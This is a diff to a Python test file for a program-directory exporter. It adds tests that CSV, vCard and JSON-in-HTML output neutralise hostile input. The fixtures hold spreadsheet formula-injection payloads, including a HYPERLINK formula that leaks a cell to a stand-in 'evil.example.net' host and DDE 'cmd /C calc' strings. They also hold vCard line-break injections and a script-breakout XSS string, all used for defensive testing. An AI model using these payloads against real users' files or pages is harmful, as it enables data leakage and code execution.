@@ -254,7 +254,7 @@ def test_programs_csv_has_one_row_per_program_with_lists_joined(small):
     rows = list(csv.DictReader(io.StringIO(text)))
     assert text.splitlines()[0] == (
         "id,former_ids,name,organization,example,needs_review,summary,focus,levels_of_care,address.street,"
-        "address.city,address.state,address.zip,location.lat,location.lon,phone,website,email,telehealth,"
+        "address.city,address.state,address.zip,location.lat,location.lon,phone,website,email,telehealth,telehealth_only,"
         "populations,languages,schedule.hours_per_week,schedule.days_per_week,schedule.sessions,"
         "schedule.length_weeks.min,schedule.length_weeks.max,schedule.details,conditions,therapies,medications,"
         "services,payment,insurers,accreditations,licenses,medical_director.name,medical_director.credentials,"
@@ -312,3 +312,136 @@ def test_hsds_services_json_is_the_same_records(sample):
     assert json.loads(export.hsds_services_json(sample, SITE_URL)) == json.loads(
         export.hsds_json(export.hsds_services(sample, SITE_URL))
     )
+
+
+# --- Files people open elsewhere: spreadsheets, address books, script elements (issue 14, item 5) ---------------
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example.net/?leak="&A1,"Click for details")',
+    "organization": "+cmd|' /C calc'!A0",
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "address.street": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "address.city": "=1+1",
+    "schedule.details": "-1+1 Mon, Wed 6-9 pm",
+    "source": "@import",
+}
+
+
+@pytest.fixture(scope="module")
+def formula_programs(tmp_path_factory):
+    """A valid program whose text fields hold spreadsheet formulas, next to an ordinary one."""
+    text = (FIXTURES / "data" / "programs.yaml").read_text(encoding="utf-8")
+    records = __import__("yaml").safe_load(text)["programs"][:1]
+    hostile = copy.deepcopy(records[0])
+    hostile.update(id="formula-richmond", phone="804-555-0190", insurers=["=1+1", "Anthem", "-x"])
+    for dotted, value in FORMULAS.items():
+        target = hostile
+        *parents, last = dotted.split(".")
+        for part in parents:
+            target = target[part]
+        target[last] = value
+    path = tmp_path_factory.mktemp("formulas") / "programs.yaml"
+    path.write_text(
+        __import__("yaml").safe_dump({"programs": records + [hostile]}, allow_unicode=True, sort_keys=False),
+        encoding="utf-8",
+    )
+    ds = load_dataset(FIXTURES / "data", root=ROOT, today=TODAY, program_files=[path])
+    assert not ds.errors, ds.errors
+    return ds
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(formula_programs):
+    rows = list(csv.DictReader(io.StringIO(export.programs_csv(formula_programs))))
+    row = next(r for r in rows if r["id"] == "formula-richmond")
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert row["insurers"] == "'=1+1; Anthem; -x"
+    # No cell of any row starts like a formula, except numbers such as the longitude, which stay numbers.
+    for r in rows:
+        for column, cell in r.items():
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+                assert _is_number(cell), f"{r['id']}.{column} would run as a formula: {cell!r}"
+    assert row["location.lon"] == "-77.4591" and float(row["location.lon"]) == -77.4591
+    # Ordinary text is untouched.
+    plain = next(r for r in rows if r["id"] != "formula-richmond")
+    assert plain["name"] == "Riverbend Evening IOP" and plain["phone"] == "804-555-0101"
+
+
+def test_csv_cells_are_quoted_so_commas_quotes_and_line_breaks_stay_in_their_cell():
+    spec = export.csv_columns()[0][1]
+    assert export._cell("\tTab", spec) == "'\tTab" and export._cell("\rCR", spec) == "'\rCR"
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerow([export._cell(v, spec) for v in ('a,"b"', "x\r\ny", "=1")])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ['a,"b"', "x\r\ny", "'=1"]
+
+
+def _hostile_card(value: str) -> dict:
+    return {
+        "name": f"Evil {value}Name",
+        "organization": f"Org{value}TEL:+1-555-0000",
+        "summary": f"Summary{value}END:VCARD{value}BEGIN:VCARD",
+        "phone": "540-217-6366 x110",
+        "website": f"https://example.org/{value}URL:https://evil.example.net/",
+        "email": f"intake@example.org{value}EMAIL:evil@example.net",
+        "address": {"street": f"1 Main St{value}NOTE:evil", "city": f"X{value}X-EVIL:1", "state": "VA", "zip": "22901"},
+    }
+
+
+@pytest.mark.parametrize(
+    "line_end", ["\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r\n "], ids=repr
+)
+def test_vcard_line_breaks_in_values_never_add_a_property(line_end):
+    import vobject
+
+    from generator.referral import vcard
+
+    text = vcard(_hostile_card(line_end), SITE_URL + "programs/x/")
+    cards = list(vobject.readComponents(text))
+    assert len(cards) == 1
+    card = cards[0]
+    assert sorted(card.contents) == ["adr", "email", "fn", "note", "org", "tel", "url", "version"]
+    assert all(len(values) == 1 for values in card.contents.values())
+    broken = line_end.replace("\r\n", "\n")
+    broken = "\n" + broken[1:] if broken[0] != "\n" else broken  # every line end comes back as one "\n"
+    assert card.fn.value == f"Evil {broken}Name"
+    assert card.org.value == [f"Org{broken}TEL:+1-555-0000"]
+    assert card.adr.value.street == f"1 Main St{broken}NOTE:evil" and card.adr.value.city == f"X{broken}X-EVIL:1"
+    assert card.tel.value == "+1-540-217-6366;ext=110"
+    kept = line_end.lstrip("\r\n\u2028\u2029\x85\x0b\x0c\x1c")  # plain values lose their line ends
+    assert card.url.value == f"https://example.org/{kept}URL:https://evil.example.net/"
+    assert card.email.value == f"intake@example.org{kept}EMAIL:evil@example.net"
+    assert card.note.value.startswith(f"Summary{broken}END:VCARD{broken}BEGIN:VCARD Details: ")
+    # Every physical line is a property or a folded continuation (which starts with a space).
+    for line in text.split("\r\n")[:-1]:
+        assert line.startswith(" ") or line.split(":", 1)[0].split(";")[0] in {
+            "BEGIN", "VERSION", "FN", "ORG", "TEL", "ADR", "EMAIL", "URL", "NOTE", "END"
+        }, repr(line)  # fmt: skip
+
+
+def test_json_in_html_escapes_what_would_end_the_script_and_keeps_the_value():
+    from html.parser import HTMLParser
+
+    from generator.referral import json_in_html
+
+    data = {"name": "</script><script>alert(1)</script><!-- x --> & \u2028\u2029 é 🌱"}
+    text = json_in_html(data)
+    assert not set(text) & set("<>&\u2028\u2029")
+    assert json.loads(text) == data
+
+    class Script(HTMLParser):
+        bodies: list = []
+
+        def handle_data(self, chunk):
+            self.bodies.append(chunk)
+
+    parser = Script()
+    parser.feed(f'<script type="application/ld+json">{text}</script><p>after</p>')
+    assert parser.bodies == [text, "after"]
